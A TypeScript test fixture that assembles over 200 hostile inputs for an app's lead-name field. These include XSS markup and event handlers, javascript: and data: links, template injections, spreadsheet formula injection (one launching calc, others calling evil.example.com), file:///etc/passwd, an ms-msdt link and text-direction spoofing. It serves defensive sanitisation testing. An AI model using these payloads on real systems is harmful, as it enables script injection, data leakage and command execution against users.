// Texts that an attacker would put into the name of a lead: markup that runs scripts, characters that change the text
// direction, formulas, links that start programs. Each one that runs calls `hit()`.

const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
]
const ELEMENTS = [
  (handler: string) => `<img src=x ${handler}="hit()">`,
  (handler: string) => `<svg ${handler}=hit()></svg>`,
  (handler: string) => `<details open ${handler}=hit()><summary>x</summary></details>`,
  (handler: string) => `<input autofocus ${handler}='hit()'>`,
  (handler: string) => `<video src=x ${handler}=hit()></video>`,
  (handler: string) => `"><body ${handler}=hit()>`,
  (handler: string) => `'-alert(1)-'" ${handler}=hit() x="`,
]
const SCRIPTS = [
  '<script>hit()</script>',
  '<ScRiPt>hit()</sCrIpT>',
  '</script><script>hit()</script>',
  '</title><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '<script src=data:,hit()></script>',
  '<svg><script>hit()</script></svg>',
  '<math><mtext></mtext><script>hit()</script></math>',
  '<template><script>hit()</script></template>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<form action="javascript:hit()"><button>x</button></form>',
  '<a href="javascript:hit()">x</a>',
  '<base href="https://evil.example.com/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.com/">',
  '<link rel=stylesheet href=https://evil.example.com/x.css>',
  '<style>@import "https://evil.example.com/x.css"</style>',
  '<img src=https://evil.example.com/pixel.png>',
  '{{constructor.constructor("hit()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would run
  '${hit()}',
  '<%= hit() %>',
  '$t(errors:UNREACHABLE)',
  '{{scope}}',
]
const LINKS = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  'java\tscript:hit()',
  '\u0001javascript:hit()',
  'vbscript:hit()',
  'data:text/html,<script>hit()</script>',
  'file:///etc/passwd',
  'file://server/share',
  'smb://server/share',
  '\\\\server\\share',
  'ms-msdt:/id PCWDiagnostic',
  'leme://app/x',
  'blob:https://x/1',
  'view-source:https://example.com',
  'ana@example.com?bcc=x@evil.example.com',
  'mailto:a@b.c?body=x',
  '+55 (81) 99999-0001;ext=1',
  'tel:*31#0',
  'https://user:secret@evil.example.com/',
]
const SIGNS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠']
const FORMULAS = [
  '1+1',
  'HYPERLINK("https://evil.example.com";"x")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("https://evil.example.com")',
  'SUM(1;2)',
]
const TURNED = [
  '\u202egnp.exe',
  '\u2066\u202eabc\u2069',
  '\u200f\u200e\u061c',
  'a\u0000b',
  '\u2028\u2029',
  '\ufeff\u200b\u200d',
  'מיכל \u202b(ltr)\u202c',
  `Z${'\u0351'.repeat(200)}`,
  'w'.repeat(20_000),
  '\ud800',
  '🏴‍☠️'.repeat(100),
  '\u001b[31mred',
  'constructor',
  '__proto__',
]

/** All payloads, more than 200, each once. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...ELEMENTS.flatMap((element) => HANDLERS.map(element)),
    ...SCRIPTS,
    ...LINKS,
    ...SIGNS.flatMap((sign) => FORMULAS.map((formula) => sign + formula)),
    ...TURNED,
    ...LINKS.map((link) => `<a href="${link}" onclick=hit()>x</a>`),
    ...['"', "'", '`', '>', '-->', ']]>', '*/', '\\'].map((end) => `${end}<script>hit()</script>`),
    '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
    '&lt;script&gt;hit()&lt;/script&gt;',
    '%3Cscript%3Ehit()%3C/script%3E',
    '&#60;script&#62;hit()&#60;/script&#62;',
  ]),
]
